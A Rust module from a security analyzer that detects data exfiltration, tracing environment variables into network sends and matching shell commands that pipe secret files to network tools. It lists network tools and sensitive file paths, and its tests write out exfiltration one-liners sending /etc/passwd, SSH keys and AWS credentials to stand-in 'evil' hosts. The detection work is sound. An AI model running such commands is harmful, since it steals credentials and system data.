//! Data leaving the machine: the environment flowing into a network send
//! (MB911, MB421), and shell commands that hand system or credential files
//! to a network tool (MB910).

use super::calls::{arg_values, kwarg, Call};
use super::database::SECRET_COLUMNS;
use super::flow::{Source, Taint};
use super::literal::shorten;
use super::names::credential_paths;
use super::needles::Grams;
use super::{taxonomy, Analyzer, Bind, Node, Part, Seen, EVAL_DEPTH, F, K};

/// Distinct environment variables sent in one call before it looks like
/// harvesting rather than configuration (an API token, a region, a user).
pub(super) const ENV_KEYS_MIN: usize = 4;

/// Method names that send data when called on a client, session, socket or
/// mail connection. Alone they prove nothing (`queue.put`), so they count
/// only in a script that also does network I/O.
const SEND_METHODS: &[&str] = &[
    "post",
    "put",
    "patch",
    "request",
    "send",
    "sendall",
    "sendto",
    "sendmsg",
    "sendmail",
    "send_message",
    "urlopen",
    "storbinary",
    "storlines",
    // Object storage clients (boto3, and the S3-compatible ones that
    // copy its API): the object's body leaves.
    "upload_fileobj",
    "put_object",
];

/// Calls that resolve a host name.
pub(super) const DNS_LOOKUPS: &[&str] = &[
    "socket.gethostbyname",
    "socket.gethostbyname_ex",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
];

/// Programs that move data over the network from a command line.
const NET_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "curl",
    "wget",
    "socat",
    "telnet",
    "ftp",
    "tftp",
    "scp",
    "sftp",
    "rsync",
];

/// Files worth stealing beyond the credential paths: account lists, other
/// processes' environments, shell histories, host keys.
const SYSTEM_SECRETS: &[&str] = &[
    "/etc/passwd",
    "/etc/group",
    "/etc/master.passwd",
    "/proc/self/environ",
    "/proc/1/environ",
    ".bash_history",
    ".zsh_history",
    "/etc/ssh/ssh_host_",
];

#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum SendKind {
    /// A resolved network client call (requests.post, urlopen, Request...).
    Client,
    /// A method with a sending name on an object of unknown type.
    Method,
    /// A shell or subprocess call, which sends only if it runs a network tool.
    Command,
}

#[derive(Clone, Copy)]
pub(super) struct Send<'t> {
    pub node: Node<'t>,
    pub scope: usize,
    pub kind: SendKind,
}

/// What of the environment an expression carries.
#[derive(Default)]
struct EnvFlow {
    /// The whole environment, and how it was written.
    whole: Option<String>,
    /// Names of single variables read (`<computed>` when not constant).
    keys: Vec<String>,
    /// Bound values already followed.
    seen: Seen,
}

/// How a call with callee `q` and method `method` sends, if it does.
pub(super) fn send_kind(q: Option<&str>, method: Option<&str>) -> Option<SendKind> {
    send_kind_of(q, q.map_or(0, super::kinds::of), method)
}

/// [`send_kind`], `k` being the callee lists of `q` ([`super::kinds::of`]).
pub(super) fn send_kind_of(q: Option<&str>, k: u32, method: Option<&str>) -> Option<SendKind> {
    use super::kinds::{COMMAND, DNS_LOOKUP};
    match (q, method) {
        (Some(q), _) if super::names::network_client(q, k) || q == "urllib.request.Request" => {
            Some(SendKind::Client)
        }
        // A name looked up is sent to the resolver, and on to the name's
        // authoritative server: a way out past most egress filters.
        (Some(_), _) if k & DNS_LOOKUP != 0 => Some(SendKind::Client),
        (Some(_), _) if k & COMMAND != 0 => Some(SendKind::Command),
        (_, Some(m)) if SEND_METHODS.contains(&m) => Some(SendKind::Method),
        _ => None,
    }
}

fn is_environ(q: &str) -> bool {
    q == "os.environ" || q == "os.environb"
}

/// Reads of one variable: `os.getenv(K)`, `os.environ.get(K)` and the like.
fn is_env_getter(q: &str) -> bool {
    matches!(
        q,
        "os.getenv"
            | "os.getenvb"
            | "os.environ.get"
            | "os.environ.setdefault"
            | "os.environ.pop"
            | "os.environ.__getitem__"
            | "os.environb.get"
    )
}

impl<'t> Analyzer<'t> {
    /// Checks every recorded send for environment data in its arguments.
    /// Runs after the call checks, when `facts.network` is known.
    pub(super) fn check_sends(&mut self) {
        let sends = std::mem::take(&mut self.sends);
        let net_context = self.facts.network || self.facts.net_import;
        for &s in &sends {
            let (pos, kw) = self.args(s.node);
            let ok = match s.kind {
                SendKind::Client => true,
                SendKind::Method => net_context,
                SendKind::Command => pos
                    .first()
                    .is_some_and(|a| mentions_net_tool(self.command_text(*a, s.scope))),
            };
            if !ok {
                continue;
            }
            if s.kind != SendKind::Command {
                self.signs.network_send.get_or_insert(s.node);
            }
            if s.kind == SendKind::Client {
                self.check_metadata_request(s.node, pos, s.scope);
            }
            // A command's keywords are its environment, directory and pipes:
            // `env=os.environ.copy()` is how a child gets a tweaked
            // environment, not a way out of the machine.
            let kw = if s.kind == SendKind::Command {
                &[][..]
            } else {
                kw
            };
            let mut flow = EnvFlow::default();
            self.reset_budget();
            for a in arg_values(pos, kw) {
                self.env_flow(a, s.scope, 0, &mut flow);
            }
            let call = shorten(self.text(s.node));
            if let Some(how) = flow.whole {
                self.add("MB911", s.node, format!("{how} reaches `{call}`"));
            } else {
                self.check_secret_send(s, pos, kw);
                let mut keys = flow.keys;
                keys.sort_unstable();
                keys.dedup();
                if keys.len() >= ENV_KEYS_MIN && !self.notifies_own_hook(s, pos, kw, &keys) {
                    self.add(
                        "MB421",
                        s.node,
                        format!(
                            "{} variables ({}) reach `{call}`",
                            keys.len(),
                            keys.join(", ")
                        ),
                    );
                }
            }
        }
        // Kept for the covert-channel checks, which look at sends again.
        self.sends = sends;
    }

    /// A notifier posting to a URL the environment names (a chat
    /// webhook kept as a CI secret), none of whose variables sent is named
    /// like a secret: the user chose where it goes and what it says (a
    /// build's branch, commit and author). The destination's variable is
    /// where the data goes, not data; a token among the rest still counts.
    fn notifies_own_hook(
        &self,
        s: Send<'t>,
        pos: &[Node<'t>],
        kw: &[(&'t str, Node<'t>)],
        keys: &[String],
    ) -> bool {
        if s.kind != SendKind::Client {
            return false;
        }
        let Some(url) = kwarg(kw, "url").or_else(|| pos.first().copied()) else {
            return false;
        };
        let mut dest = EnvFlow::default();
        self.reset_budget();
        self.env_flow(url, s.scope, 0, &mut dest);
        let secret = |k: &String| {
            let k = k.to_ascii_lowercase();
            k.contains("computed") || SECRET_COLUMNS.iter().any(|c| k.contains(c))
        };
        !dest.keys.is_empty()
            && keys
                .iter()
                .filter(|k| !dest.keys.contains(k))
                .all(|k| !secret(k))
    }

    /// Secret data (a credential or key file's contents, keystrokes) in
    /// what a send sends gives MB916.
    fn check_secret_send(&mut self, s: Send<'t>, pos: &[Node<'t>], kw: &[(&'t str, Node<'t>)]) {
        let mut t = Taint::default();
        for a in arg_values(pos, kw) {
            t.merge(&self.taint(a, s.scope));
        }
        if let Some(src) = t.get(Source::Secret) {
            let detail = format!(
                "secret data from `{}` (line {}) is sent by `{}`",
                shorten(self.text(src)),
                src.start_position().row + 1,
                shorten(self.text(s.node))
            );
            self.add("MB916", s.node, detail);
        }
    }

    /// A secret file read anywhere in the script, for the coarse check that
    /// pairs it with network use (MB904).
    pub(super) fn note_secret_read(&mut self, call: &Call<'t>, read: &[String]) {
        if self.signs.secret_read.is_some() {
            return;
        }
        if let Some(p) = read
            .iter()
            .find(|p| taxonomy::secret(p) && !taxonomy::pod_token(p))
        {
            self.signs.secret_read = Some((call.node, p.clone()));
        }
    }

    /// Collects the environment data `n` carries, through local bindings
    /// (bounded by the evaluator's depth and step budget).
    fn env_flow(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
        if depth > EVAL_DEPTH || !self.tick() || acc.whole.is_some() {
            return;
        }
        match n.kind() {
            K::Identifier | K::Attribute => self.env_flow_name(n, scope, depth, acc),
            K::Subscript => {
                let value = n.child(F::Value);
                let q = value.and_then(|v| self.resolve(v, scope, depth + 1));
                if q.as_deref().is_some_and(is_environ) {
                    let key = n.child(F::Subscript);
                    acc.keys.extend(self.key_names(key, scope, depth));
                    return;
                }
                self.env_flow_children(n, scope, depth, acc);
            }
            K::Call => self.env_flow_call(n, scope, depth, acc),
            _ => self.env_flow_children(n, scope, depth, acc),
        }
    }

    /// A name or an attribute: the environment itself, or what the name
    /// holds.
    fn env_flow_name(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
        if let Some(q) = self.resolve(n, scope, depth + 1) {
            if is_environ(&q) {
                acc.whole = Some(q);
                return;
            }
        }
        if n.kind() == K::Identifier {
            self.env_flow_bindings(n, scope, depth, acc);
            return;
        }
        // `json.dumps(os.environ).encode`: the data is in the object.
        if let Some(obj) = n.child(F::Object) {
            self.env_flow(obj, scope, depth + 1, acc);
        }
    }

    /// What the name `n` is bound to, is passed as a parameter, or has put
    /// into it.
    fn env_flow_bindings(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
        let Some(binds) = self.lookup(self.text(n), scope, n.start_byte()) else {
            return;
        };
        for b in binds {
            match b {
                Bind::Expr(v, s) if acc.seen.first(v, depth) => {
                    self.env_flow(v, s, depth + 1, acc);
                }
                // `for i, part in enumerate(parts)`: a piece of what the
                // loop goes over.
                Bind::Part { of, scope: s, .. } if acc.seen.first(of, depth) => {
                    self.env_flow(of, s, depth + 1, acc);
                }
                // A parameter carries what its callers pass.
                Bind::Param { func, index, .. } => {
                    for (a, s) in self.passed(func, index, self.text(n)) {
                        if acc.seen.first(a, depth) {
                            self.env_flow(a, s, depth + 1, acc);
                        }
                    }
                }
                _ => {}
            }
        }
        // `found[k] = os.environ[k]` into a dict bound empty: what was put
        // into it is sent with it.
        for (s, v) in self.mutations_near(self.text(n), scope) {
            if acc.seen.first(v, depth) {
                self.env_flow(v, s, depth + 1, acc);
            }
        }
        // `zf.writestr("env.txt", dump)` into a zip over this buffer: the
        // dump is sent with the buffer.
        for (s, call) in self.archive_members_near(self.text(n), scope) {
            let Some(&data) = self.args(call).0.get(1) else {
                continue;
            };
            if self.method_name(call) == Some("writestr") && acc.seen.first(data, depth) {
                self.env_flow(data, s, depth + 1, acc);
            }
        }
    }

    /// A call: an environment getter (its key, and a default that may come
    /// from the environment too), or a function of the script's own, which
    /// returns what it returns.
    fn env_flow_call(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
        // Through a pass-through helper: the function it calls.
        let func = self.call_function(n);
        let q = func.and_then(|f| self.resolve(f, scope, depth + 1));
        if q.as_deref().is_some_and(is_env_getter) {
            let (pos, _) = self.args(n);
            acc.keys
                .extend(self.key_names(pos.first().copied(), scope, depth));
            for a in pos.iter().skip(1) {
                self.env_flow(*a, scope, depth + 1, acc);
            }
            return;
        }
        let def = func.and_then(|f| self.callee_def(f, scope));
        if let Some((def_scope, _)) = def {
            for &v in self
                .returns
                .get(&def_scope)
                .map(Vec::as_slice)
                .unwrap_or_default()
            {
                if acc.seen.first(v, depth) {
                    self.env_flow(v, def_scope, depth + 1, acc);
                }
            }
        }
        if self.is_forwarded(n) {
            // The function the helper calls and its arguments, as a plain
            // call's callee and arguments (not the helper's name).
            for a in func.into_iter().chain(self.arg_values(n)) {
                self.env_flow(a, scope, depth + 1, acc);
            }
            return;
        }
        self.env_flow_children(n, scope, depth, acc);
    }

    /// The source of a command argument, or of the expression a name for
    /// it was last bound to (`cmd = ["curl", ...]; run(cmd)`).
    fn command_text(&self, arg: Node<'t>, scope: usize) -> &'t str {
        if arg.kind() == K::Identifier {
            let bound = self
                .lookup(self.text(arg), scope, arg.start_byte())
                .and_then(|binds| {
                    binds.into_iter().find_map(|b| match b {
                        Bind::Expr(v, _) => Some(v),
                        _ => None,
                    })
                });
            if let Some(v) = bound {
                return self.text(v);
            }
        }
        self.text(arg)
    }

    fn env_flow_children(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
        // The children are the tree's, not borrowed from `self`: no copy.
        for k in n.children() {
            self.env_flow(k, scope, depth + 1, acc);
        }
    }

    /// The variable names a key reads: its value, or every name of the
    /// table a loop takes it from (`{k: os.environ[k] for k in NAMES}`
    /// reads each of NAMES, not one variable).
    fn key_names(&self, key: Option<Node<'t>>, scope: usize, depth: usize) -> Vec<String> {
        let table = key
            .filter(|k| k.kind() == K::Identifier)
            .and_then(|k| self.lookup(self.text(k), scope, k.start_byte()))
            .and_then(|binds| match binds[..] {
                [Bind::Part {
                    of,
                    scope: s,
                    how: Part::Each(_),
                }] => self.fold_list(of, s, depth + 1),
                _ => None,
            });
        table.unwrap_or_else(|| vec![self.key_name(key, scope, depth)])
    }

    fn key_name(&self, key: Option<Node<'t>>, scope: usize, depth: usize) -> String {
        key.and_then(|k| self.fold(k, scope, depth + 1))
            .unwrap_or_else(|| format!("<{}>", key.map(|k| self.text(k)).unwrap_or("?")))
    }

    /// A command that sends a secret file or the environment with a network
    /// tool gives MB910 (`lower` is the line lower-cased, `g` its [`Grams`]).
    pub(super) fn check_exfil_command(&mut self, lower: &str, g: &Grams, node: Node<'t>) {
        // A stage's head is a word of the line (grouping only turns
        // separators into pipes or spaces): a line that holds no network
        // tool's name has no stage headed by one, and is not split into
        // statements and stages.
        if !names_net_tool(lower, g) {
            return;
        }
        if let Some(what) = exfil_in_command(lower) {
            self.add("MB910", node, what);
        }
    }
}

/// Whether a lower-cased command line holds some network tool's name
/// anywhere (`g` is its [`Grams`]): what [`exfil_in_command`] needs first.
fn names_net_tool(lower: &str, g: &Grams) -> bool {
    NET_TOOLS.iter().any(|t| g.contains(lower, t))
}

/// Does the source text of a command argument name a network tool as a word?
pub(super) fn mentions_net_tool(text: &str) -> bool {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_'))
        .any(|w| NET_TOOLS.contains(&w))
}

fn is_secret(word: &str) -> bool {
    let grams = Grams::of(word);
    credential_paths()
        .chain(SYSTEM_SECRETS)
        .any(|p| grams.contains(word, p))
}

/// The word of a command stage that names a secret file, unquoted.
fn secret_in(stage: &str) -> Option<&str> {
    stage
        .split_whitespace()
        .find(|w| is_secret(w))
        .map(|w| w.trim_matches(['"', '\'']))
}

fn head_of(stage: &str) -> &str {
    let first = stage.split_whitespace().next().unwrap_or("");
    first.rsplit('/').next().unwrap_or(first)
}

/// Looks for exfiltration in a lower-cased command line. Within one
/// statement (`;`, `&&`, `||` and newlines separate statements), a network
/// tool together with a stage that reads a secret (`cat /etc/passwd | nc`,
/// `curl -d "$(cat ~/.ssh/id_rsa)"`, `env | curl -d @-`), or a network tool
/// uploading a secret itself (`curl -d @/etc/shadow`, `nc h p < /etc/passwd`).
fn exfil_in_command(lower: &str) -> Option<String> {
    // Without a group, `piped_groups` would copy the line unchanged.
    let grouped;
    let lower = if lower.contains('(') {
        grouped = piped_groups(lower);
        grouped.as_str()
    } else {
        lower
    };
    let statements = lower
        .split([';', '\n'])
        .flat_map(|s| s.split("&&"))
        .flat_map(|s| s.split("||"));
    for stmt in statements {
        // Pipeline stages and command substitutions, split again for the
        // statements that have a network tool rather than collected for
        // every statement.
        let stages = || {
            stmt.split(['|', '`', '(', ')'])
                .map(str::trim)
                .filter(|s| !s.is_empty())
        };
        let Some(tool) = stages().map(head_of).find(|h| NET_TOOLS.contains(h)) else {
            continue;
        };
        for stage in stages() {
            let leak = if NET_TOOLS.contains(&head_of(stage)) {
                uploaded_secret(stage)
            } else if matches!(head_of(stage), "env" | "printenv")
                && stage.split_whitespace().count() == 1
            {
                Some("the environment")
            } else {
                secret_in(stage)
            };
            if let Some(what) = leak {
                return Some(format!("sends {what} with {tool}"));
            }
        }
    }
    None
}

/// `( env; cat f ) | curl -d @- url`: the commands of a group (a subshell
/// or a command substitution) all write into the pipe the group feeds, so
/// their separators inside the parentheses count as pipes, and the group
/// stays one pipeline with the tool it feeds.
fn piped_groups(lower: &str) -> String {
    let mut depth = 0usize;
    let mut out = String::with_capacity(lower.len());
    for c in lower.chars() {
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if depth == 0 || !matches!(c, ';' | '\n') {
            out.push(c);
            continue;
        }
        // `a;` then a new line is one separator: two pipes would read as
        // `||`, which separates statements.
        let after_pipe = out.trim_end().ends_with('|');
        out.push(if after_pipe { ' ' } else { '|' });
    }
    out
}

/// A secret a network tool's own arguments upload: `@file` data (curl -d,
/// -F), an input redirection, `-T`/`--upload-file`, wget's `--post-file=`,
/// or a source of scp/rsync. Secrets used to log in (`-i key`,
/// `--netrc-file`) or written to (`-o`) are not uploads.
fn uploaded_secret(stage: &str) -> Option<&str> {
    let words: Vec<&str> = stage.split_whitespace().collect();
    let copies = matches!(words.first().map(|w| head_of(w)), Some("scp" | "rsync"));
    for (i, w) in words.iter().enumerate().skip(1) {
        if !is_secret(w) {
            continue;
        }
        let prev = words[i - 1];
        let w = w.trim_matches(['"', '\'']);
        let upload = w.contains('@')
            || w.starts_with('<')
            || matches!(prev, "<" | "-t" | "--upload-file")
            || w.starts_with("--post-file=")
            || w.starts_with("--body-file=")
            || w.starts_with("--upload-file=")
            || (copies && !prev.starts_with('-') && i + 1 < words.len());
        if upload {
            return Some(w);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{exfil_in_command, names_net_tool, Grams};

    #[test]
    fn command_exfiltration_shapes() {
        for cmd in [
            "cat /etc/passwd | nc evil.example 4444",
            "curl -d @/etc/shadow https://evil.example/",
            "curl -f 'f=@/root/.ssh/id_rsa' https://evil.example/",
            "tar cz ~/.ssh/id_rsa | base64 | curl -d @- http://x",
            "nc evil 4444 < /etc/passwd",
            "wget --post-file=/etc/shadow http://evil/",
            "curl http://evil/?q=$(cat ~/.aws/credentials)",
            "env | curl -d @- http://evil/",
            "scp ~/.ssh/id_ed25519 me@evil:/loot/",
            "true; cat /proc/self/environ | socat - tcp:evil:80",
            "(env; cat ~/.ssh/id_rsa) | /usr/bin/nc.openbsd evil 9",
        ] {
            assert!(exfil_in_command(cmd).is_some(), "{cmd}");
            // The gate in `check_exfil_command` lets every one through.
            assert!(names_net_tool(cmd, &Grams::of(cmd)), "{cmd}");
        }
        for cmd in [
            "cat /etc/passwd | wc -l",
            "curl -o /tmp/x https://example.org/file",
            "scp -i ~/.ssh/id_rsa build.tar me@host:/srv/",
            "curl --netrc-file ~/.netrc https://example.org/",
            "grep root /etc/passwd; curl https://example.org/",
            "env foo=1 curl https://example.org/",
            "ssh -i ~/.ssh/id_rsa host uptime",
        ] {
            assert!(exfil_in_command(cmd).is_none(), "{cmd}");
        }
    }
}
